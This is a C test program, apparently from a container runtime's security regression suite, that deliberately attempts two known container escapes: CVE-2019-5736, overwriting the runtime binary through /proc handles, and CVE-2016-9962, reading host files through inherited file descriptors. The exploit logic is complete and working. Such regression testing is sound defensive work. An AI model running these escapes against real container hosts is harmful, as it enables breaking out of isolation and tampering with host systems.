/* A hostile program for the security regression tests. It runs inside the
 * containers (compiled with the host's `cc -static` at test time) and tries
 * the escapes a malicious image would try; it prints what it got, and the
 * test decides from the host whether anything escaped.
 *
 *   hostile scan DEV INO SECONDS
 *     CVE-2019-5736: for SECONDS, scan /proc/* /exe and /proc/* /fd/* for a
 *     link to the file DEV:INO (the runtime binary under test). Try to open
 *     it for writing right away; if that fails (ETXTBSY while the runtime
 *     runs), keep an O_PATH handle and keep re-opening it for writing
 *     through /proc/self/fd/N, which works once no runtime process runs it
 *     any more. On success it overwrites the first bytes with "PWNED" and
 *     prints "ESCAPED". Prints "HANDLE <link>" for every handle it got.
 *
 *   hostile fdescape PATH SECONDS
 *     CVE-2016-9962: for SECONDS, walk /proc/* /{fd/*,cwd,root} and try
 *     LINK/.. (up to 16 times) + PATH; prints "READ <path>: <content>" for
 *     whatever it could read.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int is_pid(const char* s) {
  if (!*s) return 0;
  for (; *s; ++s)
    if (*s < '0' || *s > '9') return 0;
  return 1;
}

#define MAX_HANDLES 256
static int handles[MAX_HANDLES];
static int nhandles;
static unsigned long long want_dev, want_ino;
static int escaped;

static void overwrite(int fd, const char* how) {
  const char msg[] = "PWNED";
  if (pwrite(fd, msg, sizeof msg - 1, 0) == (ssize_t)(sizeof msg - 1)) {
    printf("ESCAPED: wrote the runtime binary through %s\n", how);
    escaped = 1;
  } else {
    printf("ESCAPED: opened the runtime binary for writing through %s (write: %s)\n", how, strerror(errno));
    escaped = 1;
  }
  fflush(stdout);
}

static void try_link(const char* link) {
  int fd = open(link, O_PATH | O_CLOEXEC);
  if (fd < 0) return;
  struct stat st;
  if (fstat(fd, &st) != 0 || (unsigned long long)st.st_dev != want_dev || (unsigned long long)st.st_ino != want_ino) {
    close(fd);
    return;
  }
  for (int i = 0; i < nhandles; ++i) {
    struct stat o;
    if (fstat(handles[i], &o) == 0 && o.st_ino == st.st_ino) {
      close(fd);
      fd = -1;
      break;
    }
  }
  int w = open(link, O_WRONLY | O_CLOEXEC);
  if (w >= 0) {
    overwrite(w, link);
    close(w);
  }
  if (fd >= 0 && nhandles < MAX_HANDLES) {
    handles[nhandles++] = fd;
    if (nhandles <= 5) {
      /* Which process it was: /proc/PID/cmdline, NULs as spaces. */
      char cl[128] = "", cmd[160];
      int pid = atoi(link + 6);
      snprintf(cmd, sizeof cmd, "/proc/%d/cmdline", pid);
      int c = open(cmd, O_RDONLY | O_CLOEXEC);
      if (c >= 0) {
        ssize_t n = read(c, cl, sizeof cl - 1);
        close(c);
        for (ssize_t i = 0; i < n; ++i)
          if (!cl[i]) cl[i] = ' ';
        cl[n > 0 ? n : 0] = 0;
      }
      printf("HANDLE %s (%s)\n", link, cl);
    }
    fflush(stdout);
  } else if (fd >= 0) {
    close(fd);
  }
}

static void reopen_handles(void) {
  for (int i = 0; i < nhandles; ++i) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", handles[i]);
    int w = open(p, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
      overwrite(w, "a re-opened O_PATH handle");
      close(w);
    }
  }
}

static void scan_once(void) {
  DIR* proc = opendir("/proc");
  if (!proc) return;
  char self[32];
  snprintf(self, sizeof self, "%d", getpid());
  struct dirent* e;
  while ((e = readdir(proc))) {
    if (!is_pid(e->d_name) || strcmp(e->d_name, self) == 0) continue;
    char p[512];
    snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
    try_link(p);
    snprintf(p, sizeof p, "/proc/%s/fd", e->d_name);
    DIR* fds = opendir(p);
    if (!fds) continue;
    struct dirent* f;
    while ((f = readdir(fds))) {
      if (!is_pid(f->d_name)) continue;
      char l[600];
      snprintf(l, sizeof l, "/proc/%s/fd/%s", e->d_name, f->d_name);
      try_link(l);
    }
    closedir(fds);
  }
  closedir(proc);
}

static int scan(int argc, char** argv) {
  if (argc != 5) return 2;
  want_dev = strtoull(argv[2], NULL, 10);
  want_ino = strtoull(argv[3], NULL, 10);
  double end = now() + atof(argv[4]);
  printf("scanning\n");
  fflush(stdout);
  /* One successful write is enough: stop there. */
  while (now() < end && !escaped) {
    scan_once();
    reopen_handles();
  }
  printf("scan done: %d handle(s)%s\n", nhandles, escaped ? ", ESCAPED" : "");
  return 0;
}

static int nread;

static void try_read(const char* path) {
  if (nread >= 20) return; /* enough evidence */
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  char buf[256];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return;
  buf[n] = 0;
  ++nread;
  printf("READ %s: %s\n", path, buf);
  fflush(stdout);
}

static void escape_from(const char* link, const char* target) {
  char p[4096];
  size_t len = (size_t)snprintf(p, sizeof p, "%s", link);
  for (int depth = 0; depth <= 16 && len + 3 + strlen(target) < sizeof p; ++depth) {
    char full[4096 + 256];
    snprintf(full, sizeof full, "%s%s", p, target);
    try_read(full);
    len += (size_t)snprintf(p + len, sizeof p - len, "/..");
  }
}

static int fdescape(int argc, char** argv) {
  if (argc != 4) return 2;
  const char* target = argv[2];
  double end = now() + atof(argv[3]);
  int rounds = 0;
  printf("probing\n");
  fflush(stdout);
  while (now() < end) {
    ++rounds;
    DIR* proc = opendir("/proc");
    if (!proc) return 1;
    struct dirent* e;
    while ((e = readdir(proc))) {
      if (!is_pid(e->d_name)) continue;
      char p[512];
      snprintf(p, sizeof p, "/proc/%s/cwd", e->d_name);
      escape_from(p, target);
      snprintf(p, sizeof p, "/proc/%s/root", e->d_name);
      escape_from(p, target);
      snprintf(p, sizeof p, "/proc/%s/fd", e->d_name);
      DIR* fds = opendir(p);
      if (!fds) continue;
      struct dirent* f;
      while ((f = readdir(fds))) {
        if (!is_pid(f->d_name)) continue;
        char l[600];
        snprintf(l, sizeof l, "/proc/%s/fd/%s", e->d_name, f->d_name);
        escape_from(l, target);
      }
      closedir(fds);
    }
    closedir(proc);
  }
  printf("probe done: %d round(s)\n", rounds);
  return 0;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc >= 2 && strcmp(argv[1], "scan") == 0) return scan(argc, argv);
  if (argc >= 2 && strcmp(argv[1], "fdescape") == 0) return fdescape(argc, argv);
  fprintf(stderr, "usage: hostile scan DEV INO SECONDS | fdescape PATH SECONDS\n");
  return 2;
}
